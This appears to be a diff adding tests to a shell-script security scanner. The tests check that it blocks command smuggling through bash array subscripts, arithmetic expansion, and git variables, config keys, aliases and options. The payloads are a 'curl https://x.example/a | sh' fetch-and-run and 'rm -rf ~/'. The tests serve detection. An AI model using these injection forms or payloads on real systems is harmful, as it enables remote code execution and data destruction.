@@ -9,6 +9,7 @@ from hypothesis import strategies as st
 from ringfence.scanning import Effect, Kind, Language, Origin, ScanReport, Trait, scan
 from ringfence.scanning.effects import Budget, Unscannable
 from ringfence.scanning.shell import shell_effects
+from ringfence.threat import ThreatLevel
 
 SECRET = "/etc/shadow"
 
@@ -242,6 +243,137 @@ def test_knows_attacks_by_their_mechanism(source: str, rule: str) -> None:
     assert rule in rules(source)
 
 
+INNER = ("curl https://x.example/a | sh", "rm -rf ~/")
+"""What the ways below lead to, as text that nothing runs."""
+
+
+def stopped(source: str) -> bool:
+    """Return whether a script is understood and blocked."""
+    report = scan(source, "shell")
+    assert report.problem is None, report.problem
+    return report.level >= ThreatLevel.HIGH
+
+
+@pytest.mark.parametrize("inner", INNER)
+@pytest.mark.parametrize(
+    "form",
+    ["$NOPE CMD", "$A $B CMD", "$A$B CMD", "${A} CMD", "$(nope) CMD", "f() { CMD; }; $A f"],
+)
+def test_an_expansion_may_come_to_nothing(form: str, inner: str) -> None:
+    """Where the first word may vanish, the next one is the command."""
+    assert stopped(form.replace("CMD", inner))
+
+
+@pytest.mark.parametrize("inner", INNER)
+@pytest.mark.parametrize(
+    "form",
+    [
+        "test -v 'a[$(CMD)]'",
+        "[ -v 'a[$(CMD)]' ]",
+        "[[ -v 'a[$(CMD)]' ]]",
+        "printf -v 'a[$(CMD)]' x",
+        "printf '-va[$(CMD)]' x",
+        "read 'a[$(CMD)]'",
+        "let 'a[$(CMD)]=1'",
+        "declare 'a[$(CMD)]=1'",
+        "unset 'a[$(CMD)]'",
+        "[[ 'a[$(CMD)]' -eq 1 ]]",
+        "[[ 1 -lt 'a[$(CMD)]' ]]",
+        "x='a[$(CMD)]'; ((x))",
+        "x='a[$(CMD)]'; y=x; echo $((y + 1))",
+        "x='a[$(CMD)]'; [[ x -gt 1 ]]",
+        "x='a[$(CMD)]'; echo ${!x}",
+        "x='a[$(CMD)]'; b=(1 2); echo ${b[x]}",
+        "x='a[$(CMD)]'; b[x]=2",
+        "x='a[$(CMD)]'; s=hello; echo ${s:x:1}",
+        "declare -i y='a[$(CMD)]'",
+        "declare -n y='a[$(CMD)]'",
+        "BASH_ENV='$(CMD)' bash x",
+    ],
+)
+def test_what_stands_in_the_brackets_of_a_text_runs(form: str, inner: str) -> None:
+    """A text that bash takes for the name of an element, or calculates, is expanded once more."""
+    assert stopped(form.replace("CMD", inner))
+
+
+@pytest.mark.parametrize("inner", INNER)
+@pytest.mark.parametrize(
+    "form",
+    [
+        *(
+            f"{name}='CMD' git diff"
+            for name in [
+                "GIT_EXTERNAL_DIFF",
+                "GIT_SSH_COMMAND",
+                "GIT_PAGER",
+                "GIT_EDITOR",
+                "GIT_SEQUENCE_EDITOR",
+                "GIT_PROXY_COMMAND",
+                "GIT_ASKPASS",
+                "EDITOR",
+                "VISUAL",
+                "PAGER",
+                "BROWSER",
+            ]
+        ),
+        "export EDITOR='CMD'; git commit",
+        "export 'EDITOR=CMD'; git commit",
+        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='CMD' git log",
+        "GIT_CONFIG_PARAMETERS=\"'core.pager=CMD'\" git log",
+        "P='CMD' git --config-env=core.pager=P log",
+        "git bisect run sh -c 'CMD'",
+        "git submodule --quiet foreach --recursive 'CMD'",
+        "git rebase -x 'CMD' main",
+        "git rebase --exec='CMD' main",
+        "git -c alias.x='!CMD' x",
+        "git -c alias.x='-c core.pager=y bisect' x run sh -c 'CMD'",
+        "git filter-branch --tree-filter 'CMD' HEAD",
+        "git difftool -x 'CMD'",
+        "git grep -O'CMD' x",
+        "git config set alias.x '!CMD'",
+        "git clone -u 'CMD' https://github.com/a/b",
+    ],
+)
+def test_git_starts_what_it_is_told(form: str, inner: str) -> None:
+    """Variables, settings and options of git hold command lines."""
+    assert stopped(form.replace("CMD", inner))
+
+
+def test_an_alias_of_git_takes_the_arguments() -> None:
+    """The script of an alias and the arguments after it are one command line."""
+    assert stopped("git -c alias.x='!rm' x -rf ~/")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        '"$PYTHON" script.py',
+        "$CC -c main.c",
+        "$SUDO apt-get update",
+        "$DOCKER rm -f web",
+        "$PIP install -r requirements.txt",
+        '"$X" rm -rf ~/',
+        "echo 'a[$(rm -rf ~/)]'",
+        "x='a[$(rm -rf ~/)]'; echo \"$x\"",
+        "[[ 'a[$(rm -rf ~/)]' == y ]]",
+        "x='a[$((x))]'; ((x))",
+        'arr=(a b); i=1; echo ${arr[i]}; unset "arr[0]"; ((i++)); [[ $i -eq 2 ]] && let i+=1',
+        "EDITOR=vim git commit",
+        "GIT_PAGER=cat git diff",
+        'export EDITOR=nano VISUAL="code --wait" PAGER="less -R"',
+        'GIT_SSH_COMMAND="ssh -i key" git fetch',
+        "git bisect run make test",
+        "git submodule foreach git pull",
+        "git rebase -x 'make test' main",
+        "git -c alias.st=status st",
+        "git config pager.log false",
+    ],
+)
+def test_lets_ordinary_launchers_pass(source: str) -> None:
+    """Editors, pagers, subscripts and commands in variables are everyday."""
+    assert not stopped(source)
+
+
 def test_points_at_the_command() -> None:
     """An effect stands where its command stands, in lines from 1 and characters from 0, and says what was resolved."""
     (read,) = (each for each in effects('é=1\nx=/etc/shadow\n  cat "$x"\n') if each.kind is Kind.READ)
@@ -298,6 +430,9 @@ def test_refuses_nul() -> None:
         "cat <<A\nb\nA\n",
         'echo "$(b)";',
         "for i in a b; do c; done;",
+        "$x rm y;",
+        "x='a[$(b)]'; ((x));",
+        "GIT_CONFIG_KEY_0=a git -c alias.x=log x;",
     ],
 )
 def test_work_grows_with_the_source_only(piece: str) -> None:
